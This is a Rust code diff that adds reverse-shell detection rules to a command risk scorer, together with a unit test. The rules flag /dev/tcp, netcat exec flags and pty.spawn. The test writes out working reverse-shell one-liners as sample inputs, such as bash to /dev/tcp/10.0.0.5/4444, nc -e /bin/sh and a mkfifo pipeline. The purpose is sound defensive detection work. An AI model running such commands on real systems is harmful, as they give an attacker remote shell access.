@@ -177,6 +177,57 @@ impl RiskScorer {
                 level: RiskLevel::Critical,
                 reason: "risk-fork-bomb",
             },
+            // Critical: Reverse and bind shells
+            RiskRule {
+                pattern: RiskPattern::Contains("/dev/tcp/"),
+                level: RiskLevel::Critical,
+                reason: "risk-dev-tcp",
+            },
+            RiskRule {
+                pattern: RiskPattern::Contains("/dev/udp/"),
+                level: RiskLevel::Critical,
+                reason: "risk-dev-udp",
+            },
+            RiskRule {
+                pattern: RiskPattern::CommandWithArgs("nc", vec!["-e"]),
+                level: RiskLevel::Critical,
+                reason: "risk-netcat-exec",
+            },
+            RiskRule {
+                pattern: RiskPattern::CommandWithArgs("nc", vec!["-c"]),
+                level: RiskLevel::Critical,
+                reason: "risk-netcat-exec",
+            },
+            RiskRule {
+                pattern: RiskPattern::CommandWithArgs("ncat", vec!["-e"]),
+                level: RiskLevel::Critical,
+                reason: "risk-netcat-exec",
+            },
+            RiskRule {
+                pattern: RiskPattern::CommandWithArgs("ncat", vec!["--exec"]),
+                level: RiskLevel::Critical,
+                reason: "risk-netcat-exec",
+            },
+            RiskRule {
+                pattern: RiskPattern::CommandWithArgs("ncat", vec!["--sh-exec"]),
+                level: RiskLevel::Critical,
+                reason: "risk-netcat-exec",
+            },
+            RiskRule {
+                pattern: RiskPattern::CommandWithArgs("netcat", vec!["-e"]),
+                level: RiskLevel::Critical,
+                reason: "risk-netcat-exec",
+            },
+            RiskRule {
+                pattern: RiskPattern::PipePattern("sh -i", "nc "),
+                level: RiskLevel::Critical,
+                reason: "risk-shell-to-netcat",
+            },
+            RiskRule {
+                pattern: RiskPattern::Contains("pty.spawn("),
+                level: RiskLevel::Critical,
+                reason: "risk-pty-spawn",
+            },
             // High: Destructive or privilege escalation
             RiskRule {
                 pattern: RiskPattern::CommandWithArgs("rm", vec!["-rf"]),
@@ -377,6 +428,48 @@ mod tests {
         assert!(reason.unwrap().contains("risk-curl-to-bash"));
     }
 
+    #[test]
+    fn test_reverse_shell_critical() {
+        let scorer = RiskScorer::new();
+        let args = |list: &[&str]| list.iter().map(|a| a.to_string()).collect::<Vec<_>>();
+
+        // bash -c 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'
+        let (level, reason) = scorer.score(
+            "bash",
+            &args(&["-c", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"]),
+        );
+        assert_eq!(level, RiskLevel::Critical);
+        assert_eq!(reason, Some("risk-dev-tcp"));
+
+        let (level, reason) = scorer.score("nc", &args(&["-e", "/bin/sh", "10.0.0.5", "4444"]));
+        assert_eq!(level, RiskLevel::Critical);
+        assert_eq!(reason, Some("risk-netcat-exec"));
+
+        let (level, reason) =
+            scorer.score("ncat", &args(&["--sh-exec=/bin/bash", "10.0.0.5", "4444"]));
+        assert_eq!(level, RiskLevel::Critical);
+        assert_eq!(reason, Some("risk-netcat-exec"));
+
+        // rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.5 4444 > /tmp/f
+        let (level, reason) = scorer.score(
+            "sh",
+            &args(&["-c", "cat /tmp/f | sh -i 2>&1 | nc 10.0.0.5 4444 > /tmp/f"]),
+        );
+        assert_eq!(level, RiskLevel::Critical);
+        assert_eq!(reason, Some("risk-shell-to-netcat"));
+
+        let (level, reason) = scorer.score(
+            "python3",
+            &args(&["-c", "import pty; pty.spawn(\"/bin/bash\")"]),
+        );
+        assert_eq!(level, RiskLevel::Critical);
+        assert_eq!(reason, Some("risk-pty-spawn"));
+
+        // Plain netcat use is not a shell
+        let (level, _) = scorer.score("nc", &args(&["-z", "localhost", "8080"]));
+        assert_eq!(level, RiskLevel::Low);
+    }
+
     #[test]
     fn test_custom_high_risk() {
         let mut scorer = RiskScorer::new();